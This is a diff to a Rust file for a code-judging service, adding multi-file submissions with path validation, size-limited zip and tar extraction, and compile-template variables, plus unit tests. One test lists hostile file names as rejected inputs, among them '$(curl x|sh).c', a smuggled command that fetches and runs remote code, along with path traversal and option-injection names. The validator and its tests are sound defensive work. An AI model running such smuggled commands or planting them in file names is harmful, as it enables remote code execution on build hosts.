@@ -1,23 +1,401 @@
 // SPDX-License-Identifier: Apache-2.0
 
+use std::io::{self, Cursor, Read};
+use std::path::{Component, Path};
+
 use bytes::Bytes;
+use globset::GlobBuilder;
+use rsjudge_traits::language::config::ProjectDef;
 use rsjudge_traits::language::option::LanguageOption;
+use rsjudge_traits::language::template::TemplateVars;
+use thiserror::Error;
+use tokio::fs;
+
+/// Error in the files of a submission.
+#[derive(Debug, Error)]
+pub enum SourceError {
+    #[error("Invalid file path `{0}`, only relative paths inside the project are allowed")]
+    InvalidPath(String),
+    #[error("Invalid file name `{0}`, only ASCII letters, digits and `+-._` are allowed")]
+    InvalidName(String),
+    #[error("Duplicate file `{0}`")]
+    DuplicateFile(String),
+    #[error("Unsupported archive entry `{0}`, only regular files and directories are allowed")]
+    UnsupportedEntry(String),
+    #[error("Submission exceeds the size limit of {0} bytes")]
+    TooLarge(u64),
+    #[error("Invalid archive: {0}")]
+    Archive(String),
+    #[error("Multi-file submissions are not supported by the language")]
+    ProjectUnsupported,
+    #[error("Missing build entry point `{0}`")]
+    MissingEntry(String),
+    #[error("Invalid source glob: {0}")]
+    InvalidGlob(#[from] globset::Error),
+}
+
+impl From<io::Error> for SourceError {
+    fn from(error: io::Error) -> Self {
+        Self::Archive(error.to_string())
+    }
+}
 
 pub struct Source {
     pub(crate) language: LanguageOption,
-    pub(crate) code: Bytes,
+    pub(crate) code: Code,
 }
 
 impl Source {
     pub fn new(language: LanguageOption, code: Bytes) -> Self {
-        Self { language, code }
+        Self {
+            language,
+            code: Code::Single(code),
+        }
+    }
+
+    /// Create a multi-file submission.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a path is used more than once.
+    pub fn with_files(
+        language: LanguageOption,
+        files: Vec<SourceFile>,
+    ) -> Result<Self, SourceError> {
+        Ok(Self {
+            language,
+            code: Code::files(files)?,
+        })
     }
 
     pub fn language(&self) -> &LanguageOption {
         &self.language
     }
 
-    pub fn code(&self) -> &Bytes {
+    pub fn code(&self) -> &Code {
         &self.code
     }
 }
+
+/// Code of a submission.
+#[derive(Debug, Clone)]
+pub enum Code {
+    /// A single source file, named by the language.
+    Single(Bytes),
+    /// Several files with relative paths.
+    Files(Vec<SourceFile>),
+}
+
+/// A file of a multi-file submission.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SourceFile {
+    path: String,
+    content: Bytes,
+}
+
+impl SourceFile {
+    /// Create a file at `path`, relative to the project root.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if `path` is empty, absolute, refers to a parent
+    /// directory, or has characters other than ASCII letters, digits and
+    /// `+-._`, as paths are passed to compile commands run by the shell.
+    pub fn new(path: impl Into<String>, content: Bytes) -> Result<Self, SourceError> {
+        let path = path.into();
+        let is_relative = !path.is_empty()
+            && !path.contains('\0')
+            && Path::new(&path)
+                .components()
+                .all(|component| matches!(component, Component::Normal(_) | Component::CurDir));
+        if !is_relative {
+            return Err(SourceError::InvalidPath(path));
+        }
+
+        // Normalize `./a/./b` to `a/b`.
+        let path = Path::new(&path)
+            .components()
+            .filter(|component| matches!(component, Component::Normal(_)))
+            .map(|component| component.as_os_str().to_string_lossy())
+            .collect::<Vec<_>>()
+            .join("/");
+        if path.is_empty() {
+            return Err(SourceError::InvalidPath(path));
+        }
+        let is_safe = path
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.' | '_' | '/'));
+        if !is_safe || path.starts_with('-') || path.contains("/-") {
+            return Err(SourceError::InvalidName(path));
+        }
+
+        Ok(Self { path, content })
+    }
+
+    pub fn path(&self) -> &str {
+        &self.path
+    }
+
+    pub fn content(&self) -> &Bytes {
+        &self.content
+    }
+}
+
+impl Code {
+    /// Create a multi-file submission from `files`.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a path is used more than once.
+    pub fn files(mut files: Vec<SourceFile>) -> Result<Self, SourceError> {
+        files.sort_unstable_by(|a, b| a.path.cmp(&b.path));
+        if let Some(pair) = files.windows(2).find(|pair| pair[0].path == pair[1].path) {
+            return Err(SourceError::DuplicateFile(pair[0].path.clone()));
+        }
+        Ok(Self::Files(files))
+    }
+
+    /// Extract a multi-file submission from a zip or tar archive.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the archive is invalid, contains entries other than
+    /// regular files and directories, or is larger than `limit` bytes when
+    /// extracted.
+    pub fn from_archive(archive: &[u8], limit: u64) -> Result<Self, SourceError> {
+        let mut files = Vec::new();
+        let mut remaining = limit;
+        let mut read = |path: String, reader: &mut dyn Read| -> Result<(), SourceError> {
+            let mut content = Vec::new();
+            reader
+                .take(remaining.saturating_add(1))
+                .read_to_end(&mut content)?;
+            remaining = remaining
+                .checked_sub(content.len() as u64)
+                .ok_or(SourceError::TooLarge(limit))?;
+            files.push(SourceFile::new(path, content.into())?);
+            Ok(())
+        };
+
+        if archive.starts_with(b"PK\x03\x04") {
+            let mut zip = zip::ZipArchive::new(Cursor::new(archive))
+                .map_err(|error| SourceError::Archive(error.to_string()))?;
+            for index in 0..zip.len() {
+                let mut file = zip
+                    .by_index(index)
+                    .map_err(|error| SourceError::Archive(error.to_string()))?;
+                let path = file.name().to_owned();
+                if file.is_dir() {
+                    continue;
+                } else if !file.is_file() {
+                    return Err(SourceError::UnsupportedEntry(path));
+                }
+                read(path, &mut file)?;
+            }
+        } else {
+            let mut tar = tar::Archive::new(Cursor::new(archive));
+            for entry in tar.entries()? {
+                let mut entry = entry?;
+                let path = entry.path()?.to_string_lossy().into_owned();
+                match entry.header().entry_type() {
+                    tar::EntryType::Regular => read(path, &mut entry)?,
+                    tar::EntryType::Directory => {}
+                    _ => return Err(SourceError::UnsupportedEntry(path)),
+                }
+            }
+        }
+
+        Self::files(files)
+    }
+
+    /// Whether the submission has several files.
+    pub fn is_project(&self) -> bool {
+        matches!(self, Self::Files(_))
+    }
+
+    /// Get bytes identifying the code, e.g. for the compile cache.
+    pub fn identity(&self) -> Vec<u8> {
+        match self {
+            Self::Single(code) => code.to_vec(),
+            Self::Files(files) => {
+                let mut identity = Vec::new();
+                for file in files {
+                    for field in [file.path.as_bytes(), &file.content] {
+                        identity.extend_from_slice(&(field.len() as u64).to_le_bytes());
+                        identity.extend_from_slice(field);
+                    }
+                }
+                identity
+            }
+        }
+    }
+
+    /// Write the code into `dir`, using `src_file` as the name of a single
+    /// file.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a file cannot be written.
+    pub async fn write_to(&self, dir: &Path, src_file: &str) -> io::Result<()> {
+        match self {
+            Self::Single(code) => fs::write(dir.join(src_file), code).await,
+            Self::Files(files) => {
+                for file in files {
+                    let path = dir.join(&file.path);
+                    if let Some(parent) = path.parent() {
+                        fs::create_dir_all(parent).await?;
+                    }
+                    fs::write(path, &file.content).await?;
+                }
+                Ok(())
+            }
+        }
+    }
+
+    /// Set the template variables of `project` for the code.
+    ///
+    /// Nothing is set for single file submissions.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the language doesn't support multi-file
+    /// submissions, or the build entry point is missing.
+    pub fn set_project_vars(
+        &self,
+        project: Option<&ProjectDef>,
+        vars: &mut TemplateVars,
+    ) -> Result<(), SourceError> {
+        let Self::Files(files) = self else {
+            return Ok(());
+        };
+        let project = project.ok_or(SourceError::ProjectUnsupported)?;
+
+        if let Some(entry) = &project.entry {
+            if !files.iter().any(|file| &file.path == entry) {
+                return Err(SourceError::MissingEntry(entry.clone()));
+            }
+            vars.set("entry", entry.as_str());
+        }
+
+        if let Some(sources) = &project.sources {
+            let matcher = GlobBuilder::new(sources)
+                .literal_separator(true)
+                .build()?
+                .compile_matcher();
+            vars.set_list(
+                "sources",
+                files
+                    .iter()
+                    .filter(|file| matcher.is_match(&file.path))
+                    .map(|file| file.path.as_str()),
+            );
+        }
+
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::{Cursor, Write as _};
+
+    use rsjudge_traits::language::config::ProjectDef;
+    use rsjudge_traits::language::template::TemplateVars;
+
+    use super::{Code, SourceError, SourceFile};
+
+    fn file(path: &str, content: &'static str) -> SourceFile {
+        SourceFile::new(path, content.into()).unwrap()
+    }
+
+    #[test]
+    fn validate_paths() {
+        assert_eq!(file("./src//main.c", "").path(), "src/main.c");
+        for path in ["", ".", "/etc/passwd", "../main.c", "src/../../main.c"] {
+            assert!(matches!(
+                SourceFile::new(path, "".into()),
+                Err(SourceError::InvalidPath(_))
+            ));
+        }
+        for path in [
+            "$(curl x|sh).c",
+            "my main.c",
+            "a;b.c",
+            "-o.c",
+            "src/-rf.c",
+            "\u{e9}.c",
+        ] {
+            assert!(matches!(
+                SourceFile::new(path, "".into()),
+                Err(SourceError::InvalidName(_))
+            ));
+        }
+        assert!(matches!(
+            Code::files(vec![file("a.c", ""), file("./a.c", "")]),
+            Err(SourceError::DuplicateFile(_))
+        ));
+    }
+
+    #[test]
+    fn extract_archives() {
+        let mut tar = tar::Builder::new(Vec::new());
+        let mut header = tar::Header::new_gnu();
+        header.set_size(4);
+        header.set_cksum();
+        tar.append_data(&mut header, "src/Main.java", &b"main"[..])
+            .unwrap();
+        let tar = tar.into_inner().unwrap();
+
+        let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
+        zip.start_file("src/Main.java", zip::write::SimpleFileOptions::default())
+            .unwrap();
+        zip.write_all(b"main").unwrap();
+        let zip = zip.finish().unwrap().into_inner();
+
+        for archive in [tar, zip] {
+            let Code::Files(files) = Code::from_archive(&archive, 1024).unwrap() else {
+                panic!("expected multiple files");
+            };
+            assert_eq!(files, [file("src/Main.java", "main")]);
+            assert!(matches!(
+                Code::from_archive(&archive, 3),
+                Err(SourceError::TooLarge(3))
+            ));
+        }
+    }
+
+    #[test]
+    fn project_vars() {
+        let code = Code::files(vec![
+            file("Main.java", ""),
+            file("util/Helper.java", ""),
+            file("README.md", ""),
+        ])
+        .unwrap();
+        let project = ProjectDef {
+            entry: Some("Main.java".into()),
+            sources: Some("**/*.java".into()),
+            compile: None,
+        };
+
+        let mut vars = TemplateVars::new();
+        code.set_project_vars(Some(&project), &mut vars).unwrap();
+        assert_eq!(
+            vars.render("javac {entry} -- {...sources}").unwrap(),
+            "javac Main.java -- Main.java util/Helper.java"
+        );
+
+        let project = ProjectDef {
+            entry: Some("Makefile".into()),
+            ..project
+        };
+        assert!(matches!(
+            code.set_project_vars(Some(&project), &mut vars),
+            Err(SourceError::MissingEntry(_))
+        ));
+        assert!(matches!(
+            code.set_project_vars(None, &mut vars),
+            Err(SourceError::ProjectUnsupported)
+        ));
+    }
+}